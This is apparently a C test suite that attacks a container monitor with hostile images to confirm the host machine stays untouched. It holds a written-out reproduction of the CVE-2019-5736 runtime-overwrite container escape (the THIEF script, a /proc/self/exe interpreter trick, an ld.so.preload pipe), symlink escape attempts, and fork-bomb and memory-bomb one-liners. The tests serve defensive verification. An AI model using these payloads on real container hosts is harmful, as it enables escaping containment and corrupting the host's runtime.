/* Hostile images and hostile containers against berth-monitor with a real OCI runtime: nothing of the machine outside is seen, written or worn
 * out. What is hostile in an image is put into the container's writable layer before its start. */
#define _GNU_SOURCE
#include "oci.h"

#include <sched.h>

static const char *text(const json_t *v, const char *key) {
  const char *s = json_string_value(json_object_get(v, key));
  return s ? s : "";
}

/* A path below the test's folder; freed by the caller. */
static char *below(const char *name) { return oci_text("%s/%s", oci_dir, name); }

static void put_below(const char *name, const char *content) {
  char *path = below(name);
  oci_put(path, content);
  free(path);
}

static void make_below(const char *name) {
  char *path = below(name);
  ro_make_dirs(path, 0755);
  free(path);
}

static bool is_below(const char *name) {
  char *path = below(name);
  struct stat st;
  bool there = lstat(path, &st) == 0;
  free(path);
  return there;
}

/* In the image, as the container sees it. */
static void link_in(const struct box *b, const char *name, const char *to) {
  char *path = oci_text("%s/upper/%s", b->data, name);
  if (symlink(to, path) < 0)
    printf("# %s: %s\n", path, strerror(errno));
  free(path);
}

static char *log_of(const struct box *b) {
  char *log = box_log(b);
  printf("# it said: %.300s\n", log);
  return log;
}

/* ---------------------------------------------------------------- volumes */

static void subpaths(void) {
  struct box b;
  make_below("volume/in");
  put_below("volume/in/f", "inside");
  put_below("secret", "the machine's own");
  char *volume = below("volume"), *link = below("volume/out"), *place = below("bound");
  if (symlink(oci_dir, link) < 0)
    printf("# %s: %s\n", link, strerror(errno));
  char *mount = oci_text(",{\"destination\":\"/sub\",\"type\":\"bind\",\"source\":\"%s\",\"options\":[\"rbind\"]}", place);
  char *good = oci_text(",\"binds\":[{\"root\":\"%s\",\"path\":\"in\",\"target\":\"%s\"}]", volume, place);
  char *bad = oci_text(",\"binds\":[{\"root\":\"%s\",\"path\":\"out\",\"target\":\"%s\"}]", volume, place);
  box_new(&b, &(struct box_options){.args = "[\"cat\",\"/sub/f\"]", .mounts = mount, .monitor = good});
  json_decref(box_start(&b));
  json_decref(box_wait(&b));
  char *log = log_of(&b);
  ok(strstr(log, "inside") != NULL, "a part of a volume is mounted");
  free(log);
  box_end(&b, "a part of a volume");
  box_new(&b, &(struct box_options){.args = "[\"cat\",\"/sub/secret\"]", .mounts = mount, .monitor = bad});
  json_t *v = box_start(&b);
  is_str(text(v, "code"), "not_found", "a part that is a link to the machine's");
  ok(strstr(text(v, "error"), "subpath out") != NULL, "is refused by name: %s", text(v, "error"));
  json_decref(v);
  json_decref(box_wait(&b));
  box_end(&b, "a link out of a volume");
  free(volume);
  free(link);
  free(place);
  free(mount);
  free(good);
  free(bad);
}

static void copied_up(void) {
  struct box b;
  make_below("filled");
  char *filled = below("filled");
  char *mount = oci_text(",{\"destination\":\"/seed\",\"type\":\"bind\",\"source\":\"%s\",\"options\":[\"rbind\"]}", filled);
  char *plan = oci_text(",\"copy_up\":[{\"source\":\"/seed\",\"target\":\"%s\"}],\"sysctls\":{\"net.ipv4.ip_default_ttl\":\"77\"}", filled);
  box_new(&b, &(struct box_options){.args = "[\"sh\",\"-c\",\"cat /seed/f /proc/sys/net/ipv4/ip_default_ttl\"]", .mounts = mount, .monitor = plan});
  char *seed = oci_text("%s/upper/seed/f", b.data), *dir = oci_text("%s/upper/seed", b.data);
  ro_make_dirs(dir, 0755);
  oci_put(seed, "of the image\n");
  json_decref(box_start(&b));
  json_decref(box_wait(&b));
  char *log = log_of(&b);
  ok(strstr(log, "of the image") && is_below("filled/f"), "an empty volume takes over the image's files");
  ok(strstr(log, "77") != NULL, "its network has the kernel parameters asked for");
  free(log);
  free(seed);
  free(dir);
  free(filled);
  free(mount);
  free(plan);
  box_end(&b, "a filled volume");
}

/* ---------------------------------------------------------------- images */

/* Where the runtime mounts and makes things, the image has links to the machine's folders. */
static void image_links(void) {
  static const char *const places[] = {"dev", "proc", "mnt-here", "tmp"};
  struct box b;
  make_below("victim");
  char *victim = below("victim");
  for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
    char *mount = oci_text(",{\"destination\":\"/%s/made/by/mount\",\"type\":\"tmpfs\",\"source\":\"tmpfs\"}", places[i]);
    box_new(&b, &(struct box_options){.args = "[\"sh\",\"-c\",\"echo up; echo x >/dev/here; echo x >/tmp/here; echo x >/mnt-here/here\"]", .mounts = i < 2 ? NULL : mount});
    link_in(&b, places[i], victim);
    json_t *v = box_start(&b);
    printf("# /%s is a link: %s\n", places[i], *text(v, "error") ? text(v, "error") : "it ran");
    json_decref(v);
    json_decref(box_wait(&b));
    ok(!is_below("victim/here") && !is_below("victim/made") && !is_below("victim/null") && !is_below("victim/pts") && !is_below("victim/self"),
       "an image whose /%s is a link to the machine's folder leaves that as it was", places[i]);
    free(mount);
    box_end(&b, places[i]);
  }
  free(victim);
}

/* ---------------------------------------------------------------- the runtime itself (CVE-2019-5736) */

/* In the monitor's mounts, as berth-monitor's own exec does it. The process. */
static pid_t exec_in(const struct box *b, const char *command) {
  struct ro_monitor m;
  if (!ro_monitor_read(b->run, &m))
    return -1;
  pid_t pid = fork();
  if (pid == 0) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/ns/mnt", (int)m.pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC), null = open("/dev/null", O_RDWR | O_CLOEXEC);
    char *state = below("state");
    dup2(null, 0);
    dup2(null, 1);
    dup2(null, 2);
    if (fd < 0 || setns(fd, CLONE_NEWNS) < 0)
      _exit(126);
    execl(oci_runtime, oci_runtime, "--root", state, "exec", b->id, command, (char *)NULL);
    _exit(127);
  }
  return pid;
}

/* The command that is executed is a script whose interpreter is /proc/self/exe: the runtime itself, started again inside, where the image has
 * the libraries for it. Its loader hangs there on a library that is a pipe; the thief opens its program, lets it end, and writes to what it holds. */
#define THIEF                                                                                                                                      \
  "mkfifo /pipe; echo up; while true; do for p in /proc/[0-9]*; do e=$(readlink $p/exe 2>/dev/null); case \\\"$e\\\" in ''|/bin/busybox) ;; "           \
  "*) exec 9<$p/exe || continue; tr '\\\\0' ' ' <$p/cmdline; echo saw $e; echo >/pipe; i=0; while [ $i -lt 200 ]; do i=$((i+1)); "              \
  "(echo stolen >/proc/self/fd/9) 2>/dev/null && echo written; done; echo tried; exec sleep 1000;; esac; done; done"

/* The runtime's libraries and its loader, as a hostile image brings them. */
static void bring_libraries(const struct box *b) {
  char *script = oci_text("for f in $(ldd %s | grep -o '/[^ ]*'); do mkdir -p %s/upper$(dirname $f) && cp -L $f %s/upper$f; done", oci_runtime, b->data, b->data);
  free(oci_run(NULL, (const char *[]){"sh", "-c", script, NULL}));
  free(script);
}

static void runtime_overwritten(void) {
  struct box b;
  const char *before = oci_runtime;
  char *copy = below("crun"), *evil;
  free(oci_run(NULL, (const char *[]){"cp", before, copy, NULL}));
  char *sum = oci_run(NULL, (const char *[]){"sha256sum", copy, NULL});
  oci_runtime = copy;
  box_new(&b, &(struct box_options){.args = "[\"busybox\",\"sh\",\"-c\",\"" THIEF "\"]"});
  evil = oci_text("%s/upper/evil", b.data);
  oci_put(evil, "#!/proc/self/exe\n");
  chmod(evil, 0755);
  char *preload = oci_text("%s/upper/etc/ld.so.preload", b.data), *etc = oci_text("%s/upper/etc", b.data);
  ro_make_dirs(etc, 0755);
  oci_put(preload, "/pipe\n");
  bring_libraries(&b);
  json_decref(box_start(&b));
  ok(box_says(&b, "up"), "the thief runs");
  pid_t pid = exec_in(&b, "/evil");
  ok(box_says(&b, "/proc/self/exe /evil") && box_says(&b, "saw"), "it sees the runtime's own program run inside, and holds it");
  ok(box_says(&b, "tried"), "it tries to write there when that has ended");
  box_signal(&b, SIGKILL);
  waitpid(pid, NULL, 0);
  json_decref(box_wait(&b));
  char *log = log_of(&b), *after = oci_run(NULL, (const char *[]){"sha256sum", copy, NULL});
  is_str(after, sum, "the OCI runtime's program is what it was");
  ok(!strstr(log, "written"), "what the container could hold of it takes no writing");
  free(log);
  free(after);
  free(sum);
  free(evil);
  free(preload);
  free(etc);
  oci_runtime = before;
  box_end(&b, "a thief");
  free(copy);
}

/* ---------------------------------------------------------------- bombs */

static void bombs(void) {
  struct box bomb, neighbour;
  box_new(&neighbour, &(struct box_options){.args = "[\"sh\",\"-c\",\"echo up; while true; do echo alive; sleep 0.1; done\"]", .resources = "{\"memory\":{\"limit\":16777216},\"pids\":{\"limit\":16}}"});
  json_decref(box_start(&neighbour));
  ok(box_says(&neighbour, "alive"), "a neighbour is up");
  box_new(&bomb, &(struct box_options){.args = "[\"sh\",\"-c\",\"b() { b | b & }; echo lit; b; sleep 2; echo over\"]", .resources = "{\"memory\":{\"limit\":67108864},\"pids\":{\"limit\":40}}"});
  long long begun = oci_ms();
  json_decref(box_start(&bomb));
  ok(box_says(&bomb, "lit"), "a fork bomb goes off");
  json_t *end = box_wait(&bomb);
  ok(end && oci_ms() - begun < OCI_SECONDS * 1000, "and ends with its first process, after %lld ms", oci_ms() - begun);
  json_decref(end);
  box_end(&bomb, "a fork bomb");
  box_new(&bomb, &(struct box_options){.args = "[\"sh\",\"-c\",\"tail /dev/zero\"]", .resources = "{\"memory\":{\"limit\":33554432,\"swap\":33554432}}",
                                       .mounts = ",{\"destination\":\"/dev/shm\",\"type\":\"tmpfs\",\"source\":\"shm\",\"options\":[\"size=1g\"]}"});
  json_decref(box_start(&bomb));
  end = box_wait(&bomb);
  ok(json_is_true(json_object_get(end, "oom_killed")), "a memory bomb is said to have wanted memory");
  json_decref(end);
  box_end(&bomb, "a memory bomb");
  char *log = box_log(&neighbour);
  size_t had = strlen(log);
  free(log);
  bool grows = false;
  for (long long stop = oci_ms() + 5000; !grows && oci_ms() < stop; oci_nap(20)) {
    log = box_log(&neighbour);
    grows = strlen(log) > had;
    free(log);
  }
  ok(grows, "the neighbour goes on");
  box_signal(&neighbour, SIGKILL);
  end = box_wait(&neighbour);
  ok(json_is_false(json_object_get(end, "oom_killed")), "and was never short of memory");
  json_decref(end);
  box_end(&neighbour, "a neighbour");
}

int main(void) {
  const char *why = oci_hindrance();
  if (why)
    return skip_all(why);
  oci_setup();
  subpaths();
  copied_up();
  image_links();
  runtime_overwritten();
  bombs();
  oci_teardown();
  return done_testing();
}
